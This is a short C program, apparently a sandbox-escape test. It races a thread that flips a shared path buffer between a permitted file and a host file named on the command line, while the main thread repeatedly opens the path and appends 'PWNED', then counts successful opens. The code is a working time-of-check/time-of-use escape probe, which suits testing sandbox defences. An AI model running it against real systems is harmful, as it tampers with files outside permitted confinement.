/* A thread flips a path buffer between a file in the writable dir and a
 * host file (argv[1]) while the main thread opens it for writing. */
#include "escape_common.h"
#include <pthread.h>
static char path[4096];
static char host[4096];
static volatile int stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        strcpy(path, "mine");
        strcpy(path, host);
    }
    return NULL;
}
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    strncpy(host, argv[1], sizeof host - 1);
    close(open("mine", O_WRONLY | O_CREAT, 0644));
    strcpy(path, "mine");
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    long iters = argl(argv, 2), opened = 0;
    for (long i = 0; i < iters; i++) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            if (write(fd, "PWNED\n", 6) < 0) {
            }
            close(fd);
            opened++;
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("opened=%ld of %ld\n", opened, iters);
    return 0;
}
